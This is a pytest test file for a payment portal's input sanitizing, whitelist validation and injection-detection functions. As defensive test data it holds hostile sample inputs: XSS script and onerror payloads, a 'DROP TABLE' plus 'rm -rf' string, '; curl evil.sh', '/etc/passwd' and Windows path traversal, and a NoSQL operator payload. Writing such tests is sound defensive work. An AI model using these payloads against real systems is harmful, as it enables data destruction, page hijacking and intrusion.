"""Tests for input sanitizing, whitelist validation and injection detection"""
import pytest

from payportal.errors import ConfigurationError
from payportal.utils.input_validation import (
    WhitelistField,
    check_for_injection_patterns,
    sanitize,
    validate_against_whitelist,
    validate_login_input,
    validate_registration_input,
    whitelist_rules,
)

SANITIZE_CORPUS = [
    '',
    'plain',
    '  padded  ',
    '<script>alert(1)</script>',
    '<<a>>',
    ' <\x00 x > ',
    '\x00\x00',
    '< >  <',
    'O\'Brien',
    '\t\n mixed <b>markup</b> \x00',
]


@pytest.mark.parametrize('raw, expected', [
    ('  hello  ', 'hello'),
    ('<b>bold</b>', 'bbold/b'),
    ('a\x00b', 'ab'),
    (None, ''),
    (12345678, '12345678'),
])
def test_sanitize(raw, expected):
    assert sanitize(raw) == expected


@pytest.mark.parametrize('raw', SANITIZE_CORPUS)
def test_sanitize_is_idempotent(raw):
    once = sanitize(raw)
    assert sanitize(once) == once
    assert '<' not in once and '>' not in once and '\x00' not in once


@pytest.mark.parametrize('value, field, expected', [
    ('abc', 'username', False),
    ('abc_123', 'username', True),
    ('abcd', 'username', True),
    ('12345678', 'accountNumber', True),
    ('1234567', 'accountNumber', False),
    ('  abc_123  ', 'username', True),
    ('test@example.com', 'email', True),
    ('invalid-email', 'email', False),
    ('12345', 'idNumber', True),
    ('Mary-Jane Smith', 'fullname', True),
    ('R2D2', 'fullname', False),
])
def test_validate_against_whitelist(value, field, expected):
    assert validate_against_whitelist(value, field).is_valid is expected


def test_whitelist_failure_describes_grammar():
    result = validate_against_whitelist('abc', WhitelistField.USERNAME)
    assert result.errors == ['Invalid username: must be 4-20 letters, digits or underscores']


def test_whitelist_requires_full_match():
    assert not validate_against_whitelist('12345678\nDROP', WhitelistField.ACCOUNT_NUMBER).is_valid


def test_unknown_field_is_configuration_error():
    with pytest.raises(ConfigurationError):
        validate_against_whitelist('value', 'iban')


def test_field_lookup_by_wire_name():
    assert WhitelistField.from_name('accountNumber') is WhitelistField.ACCOUNT_NUMBER


def test_script_tag_is_unsafe():
    result = check_for_injection_patterns('<script>alert(1)</script>')
    assert not result.is_safe
    assert 'xss' in result.threats


def test_apostrophe_in_name_is_safe():
    result = check_for_injection_patterns("O'Brien")
    assert result.is_safe
    assert result.threats == []


def test_word_boundaries_are_ascii():
    # Accented letters are not word characters to the client-side mirror either
    assert check_for_injection_patterns('\u00e9select').threats == ['sql']
    assert check_for_injection_patterns('\u00e9cat\u00e9').threats == ['command']


def test_all_matching_signatures_are_collected():
    result = check_for_injection_patterns("x'; DROP TABLE users && rm -rf ../../etc")
    assert result.threats == ['sql', 'command', 'path_traversal']


@pytest.mark.parametrize('value, threat', [
    ('{"$gt": ""}', 'nosql'),
    ('<img src=x onerror=alert(1)>', 'xss'),
    ('javascript:void(0)', 'xss'),
    ('select * from users', 'sql'),
    ('; curl evil.sh', 'command'),
    ('..\\windows\\system32', 'path_traversal'),
    ('/etc/passwd', 'path_traversal'),
    ('abc\x00def', 'null_byte'),
])
def test_individual_signatures(value, threat):
    assert threat in check_for_injection_patterns(value).threats


def test_registration_input_accumulates_errors():
    result = validate_registration_input({
        'username': 'ab',
        'fullname': 'Jane Doe',
        'idNumber': '12',
        'accountNumber': '12345678',
    })
    assert not result.is_valid
    assert result.errors == [
        'Invalid username: must be 4-20 letters, digits or underscores',
        'Invalid idNumber: must be 5-20 digits',
        'email is required',
    ]


def test_registration_input_sanitizes_before_matching(registration):
    registration['username'] = '  <jdoe_01>  '
    assert validate_registration_input(registration).is_valid


def test_names_are_judged_by_grammar_not_blacklist(registration):
    # "cat" is a blacklisted command name but a legitimate name
    registration['fullname'] = 'Cat Stevens'
    assert not check_for_injection_patterns('Cat Stevens').is_safe
    assert validate_registration_input(registration).is_valid


def test_login_input_checks_only_login_fields():
    assert validate_login_input({'username': 'jdoe_01', 'accountNumber': '12345678'}).is_valid
    result = validate_login_input({'username': 'jdoe_01', 'accountNumber': '12-345'})
    assert result.errors == ['Invalid accountNumber: must be 8-18 digits']


def test_whitelist_rules_cover_every_field():
    rules = whitelist_rules()
    assert set(rules) == {member.field_name for member in WhitelistField}
    assert rules['username']['pattern'] == '[a-zA-Z0-9_]{4,20}'
